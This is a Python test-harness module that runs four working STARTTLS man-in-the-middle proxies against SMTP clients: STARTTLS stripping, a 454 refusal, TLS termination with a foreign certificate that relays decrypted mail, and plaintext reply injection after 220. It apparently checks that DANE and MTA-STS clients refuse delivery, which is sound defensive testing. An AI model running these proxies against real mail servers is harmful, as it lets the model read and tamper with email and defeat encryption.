"""Active network attackers (MITM proxies) against STARTTLS (RFC 3207 §6).

Run as ``python3 attackers.py DIR``.  Each attacker listens on its own
address, port 25 - the address the DNS publishes for the victim MX host - and
forwards to the real MX behind it (a recording aiosmtpd on 127.0.5.N):

``strip-starttls``   deletes ``STARTTLS`` from the EHLO reply; a STARTTLS sent
                     anyway is answered ``502 5.5.1`` (looks like a server without TLS)
``starttls-454``     answers STARTTLS with ``454 4.7.0 TLS not available``
``mitm-cert``        answers STARTTLS with 220 itself, terminates TLS with its own
                     certificate (right name, foreign CA) and forwards the
                     decrypted session to the real MX in cleartext
``inject-after-220`` forwards everything but appends plaintext SMTP replies to the
                     real ``220`` answer to STARTTLS, in the same TCP segment
                     (the RFC 3207 §4.2 / CVE-2011-0411 class of attack)

Against a DANE or MTA-STS enforce domain a correct client must not deliver
(RFC 7672 §2.2, RFC 8461 §5).  Each attacker appends what it did to
``DIR/attackers/<host>.jsonl`` (events: connect, stripped-starttls,
refused-starttls, tls-terminated, tls-handshake-failed, injected, close).
"""
from __future__ import annotations

import asyncio
import itertools
import json
import logging
import os
import re
import ssl
import time

import service

log = logging.getLogger("attackers")
INJECTED = b"250-injected.attacker.invalid\r\n250 PIPELINING\r\n"
_sessions = itertools.count(1)


async def read_reply(r: asyncio.StreamReader) -> list[bytes]:
    """One complete (possibly multi-line) SMTP reply, RFC 5321 §4.2.1."""
    lines = []
    while True:
        line = await r.readline()
        if not line:
            return lines
        lines.append(line)
        if len(line) < 4 or line[3:4] != b"-":
            return lines


def strip_starttls(reply: list[bytes]) -> list[bytes]:
    """Remove STARTTLS from an EHLO reply, keeping the last line a final one."""
    kept = [l for l in reply if not re.match(rb"250[ -]STARTTLS\s*$", l, re.I)]
    if kept and kept != reply:
        last = kept[-1]
        kept[-1] = last[:3] + b" " + last[4:]
    return kept


class Attack:
    """One intercepted connection."""

    def __init__(self, server, cr, cw, ur, uw):
        self.server, self.kind = server, server["kind"]
        self.cr, self.cw, self.ur, self.uw = cr, cw, ur, uw
        self.id = next(_sessions)
        self.raw = False           # TLS bytes flowing end to end: just copy
        self.in_data = False
        self.starttls_forwarded = False
        self.bytes = {"client": 0, "server": 0}

    def event(self, event, **kw):
        rec = {"time": time.time(), "attacker": self.server["name"], "kind": self.kind,
               "session": self.id, "event": event, **kw}
        with open(self.server["log"], "a") as f:
            f.write(json.dumps(rec) + "\n")

    async def _pipe(self, r, w, who):
        while data := await r.read(65536):
            self.bytes[who] += len(data)
            w.write(data)
            await w.drain()

    async def client_to_server(self):
        while True:
            if self.raw:
                return await self._pipe(self.cr, self.uw, "client")
            line = await self.cr.readline()
            if not line:
                return
            self.bytes["client"] += len(line)
            cmd = line.strip().upper()
            if self.in_data:
                self.in_data = line not in (b".\r\n", b".\n")
            elif cmd == b"DATA":
                self.in_data = True
            elif cmd == b"STARTTLS":
                if await self.on_starttls():
                    continue
            self.uw.write(line)
            await self.uw.drain()

    async def server_to_client(self):
        while True:
            if self.raw:
                return await self._pipe(self.ur, self.cw, "server")
            reply = await read_reply(self.ur)
            if not reply:
                return
            self.bytes["server"] += sum(map(len, reply))
            out = b"".join(self.on_reply(reply))
            self.cw.write(out)
            await self.cw.drain()

    # --- per-attack hooks -------------------------------------------------
    async def on_starttls(self) -> bool:
        """Client sent STARTTLS; return True if handled (not forwarded)."""
        if self.kind == "strip-starttls":
            self.event("refused-starttls", reply="502 5.5.1")
            self.cw.write(b"502 5.5.1 Error: command not recognized\r\n")
            return True
        if self.kind == "starttls-454":
            self.event("refused-starttls", reply="454 4.7.0")
            self.cw.write(b"454 4.7.0 TLS not available due to local problem\r\n")
            return True
        if self.kind == "mitm-cert":
            await self.terminate_tls()
            return True
        if self.kind == "inject-after-220":
            self.starttls_forwarded = True
        return False

    def on_reply(self, reply: list[bytes]) -> list[bytes]:
        if self.kind == "strip-starttls":
            out = strip_starttls(reply)
            if out != reply:
                self.event("stripped-starttls", original=[l.decode("latin-1") for l in reply],
                           sent=[l.decode("latin-1") for l in out])
            return out
        if self.kind == "inject-after-220" and self.starttls_forwarded:
            self.starttls_forwarded = False
            if reply[0].startswith(b"220"):
                self.raw = True    # the TLS handshake passes through untouched
                self.event("injected", data=INJECTED.decode())
                return reply + [INJECTED]     # one write = one TCP segment
        return reply

    async def terminate_tls(self):
        cert = self.server["cert"]
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(cert["chain_file"], cert["key_file"])
        sni = {}
        ctx.sni_callback = lambda obj, name, _c: sni.__setitem__("name", name)
        self.cw.write(b"220 2.0.0 Ready to start TLS\r\n")
        await self.cw.drain()
        try:
            await self.cw.start_tls(ctx, ssl_handshake_timeout=10)
        except (ssl.SSLError, ConnectionError, OSError, asyncio.TimeoutError) as e:
            self.event("tls-handshake-failed", error=f"{type(e).__name__}: {e}",
                       sni=sni.get("name"))
            raise ConnectionResetError("client rejected the attacker's certificate")
        obj = self.cw.get_extra_info("ssl_object")
        self.event("tls-terminated", sni=sni.get("name"), tls_version=obj.version(),
                   cipher=obj.cipher()[0], certificate_issuer=cert["issuer"])


async def serve(server: dict):
    async def handle(cr, cw):
        try:
            ur, uw = await asyncio.open_connection(*server["upstream"])
        except OSError as e:
            log.error("%s: upstream: %s", server["name"], e)
            cw.close()
            return
        a = Attack(server, cr, cw, ur, uw)
        a.event("connect", peer=list(cw.get_extra_info("peername") or []))
        tasks = [asyncio.ensure_future(a.client_to_server()),
                 asyncio.ensure_future(a.server_to_client())]
        try:
            done, pending = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
            for t in done:
                if t.exception() and not isinstance(t.exception(), (ConnectionError, OSError)):
                    log.error("%s: %r", server["name"], t.exception())
            # give the other direction a moment to flush the last reply (e.g. 221)
            await asyncio.wait(pending, timeout=2)
        finally:
            for t in tasks:
                t.cancel()
            for w in (cw, uw):
                w.close()
            a.event("close", client_bytes=a.bytes["client"], server_bytes=a.bytes["server"])

    os.makedirs(os.path.dirname(server["log"]), exist_ok=True)
    return await asyncio.start_server(handle, server["address"], server["port"])


async def setup(world: dict):
    servers = [await serve(s) for s in world["servers"] if s["role"] == "attacker"]

    async def cleanup():
        for s in servers:
            s.close()
    return cleanup


if __name__ == "__main__":
    service.run("attackers", setup)
